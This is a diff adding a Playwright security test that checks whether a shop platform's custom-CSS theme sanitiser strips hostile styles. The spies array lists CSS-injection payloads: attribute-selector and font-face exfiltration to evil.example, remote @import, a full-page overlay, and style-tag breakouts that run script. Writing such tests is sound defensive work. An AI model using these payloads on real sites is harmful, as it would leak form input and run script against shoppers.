@@ -1,0 +1,72 @@
+import { expect } from 'playwright/test'
+import { hostileCss } from '../../lib/theme/hostile-css-fixture'
+import { cornerStore } from '../fixtures/corner-store'
+import { hostOf, rawRequest } from '../fixtures/raw-http'
+import { setTheme } from '../fixtures/theme-of'
+import { beginCheckout } from '../fixtures/written-checkout'
+import type { Attack } from './attack'
+
+const spies = [
+  'input[value^="a"]{background:url(//evil.example/a)}',
+  'input[name=zip][value$="1"]{background-image:url("https://evil.example/1")}',
+  '@font-face{font-family:leak;src:url(//evil.example/f);unicode-range:U+30}body{font-family:leak}',
+  '@import "//evil.example/x.css";@import url(https://evil.example/y.css);',
+  'a{background:image-set("https://evil.example/z" 1x)}a::after{content:url(//evil.example/c)}',
+  'body::before{content:"";position:fixed;inset:0;z-index:99999;background:red}',
+  '</style><script>window.attacked=1</script><style>',
+  '<!--</style><img src=x onerror=window.attacked=1>',
+]
+const marker = '#c0ffee'
+const stylesOf = (html: string) =>
+  [...html.matchAll(/<style[^>]*>([\s\S]*?)<\/style>/gi)].map(([, css = '']) => css).join()
+
+export const customCss: Attack = {
+  id: 'S17',
+  attack: 'customCSS: `</style>`, `@import`, `url(//evil)`, `input[value^=a]`, fixed overlay, escapes, 1 MB',
+  expected: 'dropped by parser allow-list; 0 off-origin requests; not loaded on checkout/login/track',
+  asvs: '1.3.5',
+  run: async ({ house, browser, openShop, rounds }) => {
+    // What no database keeps is refused whole.
+    const customCSS = `h1{color:${marker}}${[...spies, ...hostileCss].join('\n').replaceAll('\u0000', '')}`.slice(
+      0,
+      100_000,
+    )
+    const shop = await openShop(cornerStore({ theme: { styles: { customCSS } } }))
+    await expect(setTheme(house, shop.slug, { styles: { customCSS: 'a{}'.repeat(350_000) } })).rejects.toThrow(
+      /answered 4\d\d/,
+    )
+
+    const context = await browser.newContext()
+    const foreign: string[] = []
+    context.on('request', (request) => {
+      if (!request.url().startsWith(shop.url) && !request.url().startsWith('data:')) foreign.push(request.url())
+    })
+    const page = await context.newPage()
+    const paths = ['/', '/goods', '/listing/corner-tee', '/cart', '/search', '/about'].slice(0, rounds(6, 3))
+    for (const path of paths) {
+      await page.goto(shop.url + path)
+      await expect(page.getByRole('heading', { level: 1 }).first()).toBeVisible()
+      expect(await page.evaluate(() => 'attacked' in window), path).toBe(false)
+      const covered = await page.evaluate(() => {
+        const fixed = getComputedStyle(document.body, '::before')
+        return fixed.position === 'fixed' && fixed.content !== 'none'
+      })
+      expect(covered, path).toBe(false)
+      expect(stylesOf(await page.content()), path).not.toMatch(
+        /@import|evil\.example|expression\(|javascript:|\[value/i,
+      )
+    }
+    await context.close()
+    expect(foreign).toEqual([])
+
+    const { cookie, id } = await beginCheckout({ house, slug: shop.slug })
+    const host = hostOf(house, shop.slug)
+    expect((await rawRequest(house, { host, path: '/' })).body).toContain(marker)
+    const without = [`/checkout/${id}`, '/checkout/express', '/login', '/track']
+    for (const path of without)
+      expect((await rawRequest(house, { host, path, headers: { cookie } })).body, path).not.toMatch(/c0ffee|attacked=1/)
+    return {
+      seen: `${spies.length + hostileCss.length} hostile styles on ${paths.length} pages: 0 requests elsewhere, 0 run; absent on ${without.length} pages`,
+    }
+  },
+}
